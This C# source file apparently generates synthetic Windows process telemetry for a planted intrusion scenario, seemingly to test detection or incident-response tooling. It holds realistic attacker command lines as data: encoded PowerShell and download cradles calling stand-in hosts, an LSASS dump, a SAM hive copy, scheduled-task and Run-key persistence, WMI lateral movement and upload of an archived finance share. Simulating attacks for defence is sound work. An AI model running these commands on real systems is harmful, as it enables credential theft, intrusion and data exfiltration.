namespace Quarry.Samples;

/// <summary>
/// The planted story: a document from a mail, a decoded downloader, a helper that calls home, a look around, a dump
/// attempt, persistence, and the way over to the file server. Addresses are of RFC 5737, names of RFC 2606.
/// </summary>
internal static class Intrusion
{
    private const string Windows = @"C:\Windows\System32\";
    private const string PowerShell = Windows + @"WindowsPowerShell\v1.0\powershell.exe";
    private const string Helper = @"C:\Users\m.keller\AppData\Roaming\wuhelper.exe";

    private static readonly (int Seconds, string Image, string CommandLine)[] Discovery =
    [
        (0, "whoami.exe", "whoami /all"),
        (7, "systeminfo.exe", "systeminfo"),
        (24, "ipconfig.exe", "ipconfig /all"),
        (31, "net.exe", "net user /domain"),
        (39, "net.exe", "net group \"Domain Admins\" /domain"),
        (52, "nltest.exe", "nltest /dclist:harbour.example.com"),
        (63, "tasklist.exe", "tasklist /v"),
        (75, "net.exe", @"net view \\SRV-FILE-01 /all"),
        (88, "quser.exe", "quser /server:SRV-FILE-01"),
    ];

    /// <summary>Plans the intrusion on the two hosts.</summary>
    /// <param name="first">The workstation of the phished user.</param>
    /// <param name="desk">That workstation's long-lived processes of the day.</param>
    /// <param name="server">The server that is reached later.</param>
    /// <param name="residents">The server's long-lived processes.</param>
    /// <param name="random">The sequence that times are drawn from.</param>
    public static void Plan(
        WindowsHost first,
        Dictionary<string, ProcessNode> desk,
        WindowsHost server,
        Dictionary<string, ProcessNode> residents,
        SampleRandom random)
    {
        ProcessNode helper = Arrive(first, desk["outlook"]);
        Beacon(first, helper, random);
        Operate(first, helper);
        MoveOn(server, residents, random);
        CleanUp(server, residents, random);
    }

    private static ProcessNode Arrive(WindowsHost host, ProcessNode outlook)
    {
        DateTime time = At("2026-03-04 09:41:12");
        Account user = outlook.Account;
        ProcessNode word = host.Start(
            outlook,
            time,
            @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\5QX1R7TD\\Invoice_2026-0304.docm\" /o \"\"",
            user,
            1900,
            ("the phishing document is opened from the mail", "Invoice_2026-0304.docm"));
        ProcessNode shell = host.StartConsole(
            word,
            time.AddSeconds(21),
            PowerShell,
            "powershell.exe -NoP -NonI -W Hidden -Enc " + Encoded.ForPowerShell(Encoded.Outer),
            user,
            240,
            ("Word starts encoded PowerShell: layers 1 (UTF-16), 1.1 (gzip), 1.1.1 (base64)", "-NoP -NonI -W Hidden -Enc JABzAD0A"));
        ProcessNode helper = host.Start(
            shell,
            time.AddSeconds(37),
            Helper,
            "\"" + Helper + "\"",
            user,
            22000,
            ("the dropped program runs", @"Roaming\wuhelper.exe"));
        host.StartConsole(
            shell,
            time.AddSeconds(52),
            Windows + "certutil.exe",
            @"certutil.exe -urlcache -split -f http://203.0.113.58/files/lib.dat C:\Users\m.keller\AppData\Local\Temp\lib.dat",
            user,
            4,
            ("a second file is fetched with certutil", "http://203.0.113.58/files/lib.dat"));
        return helper;
    }

    private static void Beacon(WindowsHost host, ProcessNode helper, SampleRandom random)
    {
        DateTime due = At("2026-03-04 09:47:00");
        for (int i = 0; i < 60; i++)
        {
            host.StartConsole(
                helper,
                due.AddMilliseconds(random.Between(-15000, 15000)),
                Windows + "curl.exe",
                "curl.exe -s -k -A \"Mozilla/5.0 (Windows NT 10.0)\" https://telemetry.example.org/api/v2/ping?id=WS-FIN-07&k=" + random.Hex(8),
                helper.Account,
                2,
                ("a beacon: every 300 s, at most 15 s early or late", "https://telemetry.example.org/api/v2/ping?id=WS-FIN-07"));
            due = due.AddSeconds(300);
        }
    }

    private static void Operate(WindowsHost host, ProcessNode helper)
    {
        Account user = helper.Account;
        ProcessNode shell = host.StartConsole(helper, At("2026-03-04 10:05:40"), Windows + "cmd.exe", "cmd.exe /q /d", user, 5400);
        DateTime look = At("2026-03-04 10:06:02");
        foreach ((int seconds, string image, string commandLine) in Discovery)
        {
            host.Start(shell, look.AddSeconds(seconds), Windows + image, commandLine, user, 3, ("a look around, nine commands in 88 seconds", commandLine.Split('"')[0].TrimEnd()));
        }

        Run(host, shell, "2026-03-04 10:19:30", "rundll32.exe", @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 668 C:\Users\Public\wu.dmp full", "a dump of LSASS is tried", "MiniDump 668");
        Run(host, shell, "2026-03-04 10:20:44", "reg.exe", @"reg save HKLM\SAM C:\Users\Public\wu1.hiv /y", "the account database is copied", @"reg save HKLM\SAM");
        Run(host, shell, "2026-03-04 10:31:05", "schtasks.exe", "schtasks /create /sc minute /mo 30 /tn \"Windows Update Helper\" /tr \"" + Helper + "\" /f", "persistence by a scheduled task", "schtasks /create /sc minute /mo 30");
        Run(host, shell, "2026-03-04 10:31:33", "reg.exe", @"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v WuHelper /t REG_SZ /d " + Helper + " /f", "persistence by a Run key", @"CurrentVersion\Run /v WuHelper");
        host.StartConsole(shell, At("2026-03-04 10:44:10"), PowerShell, "powershell -nop -c \"&([char]73+[char]69+[char]88) (New-Object Net.WebClient).DownloadString('http://cdn-assets.example.net/media/scan.txt')\"", user, 30, ("a command word spelled in character codes", "[char]73+[char]69+[char]88"));
        host.StartConsole(shell, At("2026-03-04 10:52:27"), Windows + "mshta.exe", "mshta.exe http://portal.example.net/r?u=http%3A%2F%2F203.0.113.58%2Ffiles%2Fview.hta", user, 8, ("a URL inside a URL, percent-encoded", "u=http%3A%2F%2F203.0.113.58%2Ffiles%2Fview.hta"));
        Run(host, shell, "2026-03-04 11:02:15", "wbem\\WMIC.exe", "wmic /node:\"SRV-FILE-01\" /user:\"HARBOUR\\svc-backup\" process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\w.txt\"", "lateral movement by WMI", "process call create");
    }

    private static void MoveOn(WindowsHost server, Dictionary<string, ProcessNode> residents, SampleRandom random)
    {
        DateTime time = At("2026-03-04 11:02:17");
        var backup = new Account("svc-backup", "HARBOUR", "S-1-5-21-2204518861-1196407531-3309127722-1131", "0x" + random.Hex(5).Insert(0, "2"), 1937);
        ProcessNode provider = server.Start(residents["svchost"], time, Windows + @"wbem\WmiPrvSE.exe", @"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", server.NetworkService, 3000);
        server.StartConsole(provider, time.AddSeconds(1), Windows + "cmd.exe", @"cmd.exe /c whoami > C:\Windows\Temp\w.txt", backup, 1, ("the WMI provider starts a command on the server", @"whoami > C:\Windows\Temp\w.txt"));
        ProcessNode shell = server.StartConsole(provider, time.AddSeconds(96), PowerShell, "powershell -nop -w hidden -e " + Encoded.ForPowerShell(Encoded.OuterTasking), backup, 600, ("encoded PowerShell on the server: layers 1 (UTF-16), 1.1 (deflate)", "-nop -w hidden -e SQBFAFgA"));
        server.Start(shell, time.AddSeconds(140), Windows + "net.exe", "net group \"Domain Admins\" svc-backup /add /domain", backup, 2, ("an account is made administrator", "svc-backup /add /domain"));
        ProcessNode service = server.Start(residents["services"], At("2026-03-05 02:37:50"), @"C:\Windows\PSEXESVC.exe", @"C:\Windows\PSEXESVC.exe", server.System, 9000, ("a remote service arrives at night", "PSEXESVC.exe"));
        ProcessNode night = server.StartConsole(service, At("2026-03-05 02:38:02"), Windows + "cmd.exe", "\"cmd.exe\"", backup, 8000);
        server.StartConsole(night, At("2026-03-05 02:41:19"), @"C:\Windows\Temp\7z.exe", @"C:\Windows\Temp\7z.exe a -mx1 -v500m C:\Windows\Temp\bk.7z D:\Shares\Finance", backup, 900, ("the finance share is packed", @"C:\Windows\Temp\bk.7z D:\Shares\Finance"));
        server.StartConsole(night, At("2026-03-05 02:58:40"), Windows + "curl.exe", @"curl.exe -s -T C:\Windows\Temp\bk.7z.001 https://upload.example.org/v1/put/bk.7z.001", backup, 7000, ("the archive is uploaded (hourly-traffic.csv, 03:00 and 04:00)", "https://upload.example.org/v1/put/bk.7z.001"));
    }

    private static void CleanUp(WindowsHost server, Dictionary<string, ProcessNode> residents, SampleRandom random)
    {
        var admin = new Account("adm-ortega", "HARBOUR", "S-1-5-21-2204518861-1196407531-3309127722-1140", "0x" + random.Hex(5).Insert(0, "3"), 1937);
        DateTime time = At("2026-03-05 09:12:30");
        ProcessNode explorer = server.Start(residents["svchost"], time, @"C:\Windows\explorer.exe", @"C:\Windows\Explorer.EXE", admin, 14000);
        ProcessNode shell = server.StartConsole(explorer, time.AddSeconds(20), Windows + "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"", admin, 13000);
        server.StartConsole(shell, time.AddSeconds(95), PowerShell, $"powershell -NoProfile -Command \"if ((Get-FileHash C:\\IR\\wuhelper.bin).Hash -eq '{random.Hex(64)}') {{ 'same' }}\"", admin, 4, ("the responder compares a SHA-256 (of nothing real)", @"Get-FileHash C:\IR\wuhelper.bin"));
        server.StartConsole(shell, time.AddSeconds(160), Windows + "cmd.exe", $"cmd /c echo md5 {random.Hex(32)} sha1 {random.Hex(40)} ticket to soc@example.com >> C:\\IR\\notes.txt", admin, 1, ("the responder notes an MD5, a SHA-1 and an address", "ticket to soc@example.com"));
        server.StartConsole(shell, time.AddSeconds(201), Windows + "cmd.exe", @"cmd /c echo block hxxps[:]//telemetry[.]example[.]org and 203[.]0[.]113[.]58, peer 2001:db8:58::17 >> C:\IR\notes.txt", admin, 1, ("the responder notes indicators defanged, and an IPv6 address", "hxxps[:]//telemetry[.]example[.]org and 203[.]0[.]113[.]58"));
    }

    private static void Run(WindowsHost host, ProcessNode shell, string time, string image, string commandLine, string what, string evidence) =>
        host.Start(shell, At(time), Windows + image, commandLine, shell.Account, 4, (what, evidence));

    private static DateTime At(string time) => SampleText.Utc(time).AddMilliseconds(137);
}
